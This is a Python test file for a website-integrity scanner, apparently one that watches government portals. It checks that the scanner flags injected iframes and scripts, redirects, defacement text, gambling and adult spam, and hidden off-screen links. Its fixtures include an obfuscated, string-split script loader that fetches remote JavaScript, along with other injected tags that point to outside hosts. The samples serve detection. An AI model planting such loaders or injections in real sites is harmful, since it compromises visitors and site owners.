"""What a name proves and what it doesn't; what is hidden in pieces; what an article is made to advertise."""

import pytest

from xuncha.model.outcome import Status
from xuncha_plugins.integrity.checks import defacement, injected, redirected
from xuncha_plugins.integrity.look_checks import title

ODD = [
    '<iframe src="https://www.jn12345.com/query"></iframe>',
    '<script src="https://kf.96555.com/im.js"></script>',
    '<script src="https://ai.shilizw.online/robot.js"></script>',
    '<iframe src="https://zb.sdradio.live/room/1"></iframe>',
    '<form action="https://vote.shilirm.club/sub"></form>',
]
LOADER = """<script>var _0x1a=["\\x68\\x74\\x74\\x70","\\x73\\x63\\x72\\x69\\x70\\x74"];(function(){
var s=document.createElement(_0x1a[1]);s.src="//"+"tj.a"+"bcq.com/x.js";document.head.appendChild(s)})()</script>"""
ADVERT = '<p>在线观看成人影片，点击 <a href="http://www.strangers.com/">这里</a></p>'


def keys(outcome):
    return [found.key for found in outcome.findings]


@pytest.mark.parametrize("added", ODD)
def test_an_odd_name_alone_is_a_question(compared, made, added):
    outcome = compared(injected, made.page(9, body=added))
    assert (len(outcome.findings), outcome.status) == (1, Status.MANUAL)


def test_a_redirect_to_an_odd_name_is_a_question(compared, made):
    head = '<meta http-equiv="refresh" content="0;url=https://zb.sdradio.live/">'
    assert compared(redirected, made.page(9, head=head)).status is Status.MANUAL


@pytest.mark.parametrize("more", ["<h1>Hacked by Ghost</h1>", ADVERT])
def test_an_odd_name_on_a_page_with_an_intruders_words_fails(compared, made, more):
    assert compared(injected, made.page(9, body=ODD[1] + more)).status is Status.FAIL


def test_one_host_is_asked_about_once(compared, made):
    added = '<script src="https://a.kf.cn/a.js"></script><iframe src="https://a.kf.cn/b"></iframe>'
    assert keys(compared(injected, made.page(9, body=added))) == ["script"]


@pytest.mark.parametrize(
    "name", ["开云体育-示例县教育局", "开云体育官方网站-示例县教育局", "博彩_示例县教育局", "kaiyun 示例县教育局"]
)
def test_strange_words_beside_the_sites_name_are_asked_about(compared, made, name):
    assert keys(compared(title, made.page(9, title=name))) == ["grown"]


@pytest.mark.parametrize(
    "name",
    [
        "示例县教育局门户网站",
        "首页 - 示例县教育局",
        "欢迎访问示例县教育局网站_阳光政务 幸福示例",
        "示例县教育局_政务公开平台",
        "通知公告 示例县教育局",
        "示例县教体局",
    ],
)
def test_what_any_offices_title_may_say_is_left_alone(compared, made, name):
    assert compared(title, made.page(9, title=name)).status is Status.PASS


def test_an_address_in_pieces_is_put_together(compared, made):
    outcome = compared(injected, made.page(9, body=LOADER))
    shown = [str(found.params["url"].value) for found in outcome.findings if found.key == "loader"]
    assert (sorted(keys(outcome)), shown) == (["loader", "packed"], ["tj[.]abcq[.]com"])


def test_an_advertisement_in_an_article_is_asked_about(compared, made):
    assert keys(compared(injected, made.page(9, body=ADVERT))) == ["advert"]


@pytest.mark.parametrize(
    "added",
    [
        ADVERT.replace("在线观看", "公安机关打击"),
        ADVERT.replace("http://www.strangers.com/", "/art/9.html"),
        "<p>在线观看成人影片</p>",
    ],
)
def test_without_a_way_to_it_or_against_it_it_is_no_advertisement(compared, made, added):
    assert compared(injected, made.page(9, body=added)).status is Status.PASS


def test_an_advertisement_that_was_approved_is_left_alone(compared, made):
    assert compared(injected, made.page(9, body=ADVERT), made.page(body=ADVERT)).status is Status.PASS


def test_an_advertisement_needs_a_baseline(compared, made):
    assert compared(defacement, made.page(9, body=ADVERT)).status is Status.PASS


AWAY = '<div style="position:absolute;left:-9999px">{}</div>'.format


def test_links_off_the_screen_are_asked_about(compared, made):
    links = '<a href="http://www.one.com/">装修公司</a><a href="//two.com/">搬家公司</a>'
    assert keys(compared(injected, made.page(9, body=AWAY(links)))) == ["veiled"]


@pytest.mark.parametrize("link", ["/art/9.html", "http://www.county.gov.cn/"])
def test_own_and_state_links_off_the_screen_are_left_alone(compared, made, link):
    page = made.page(9, body=AWAY(f'<a href="{link}">跳到正文</a>'))
    assert compared(injected, page).status is Status.PASS


def test_links_off_the_screen_that_were_approved_are_left_alone(compared, made):
    body = AWAY('<a href="http://www.one.com/">公司</a>')
    assert compared(injected, made.page(9, body=body), made.page(body=body)).status is Status.PASS
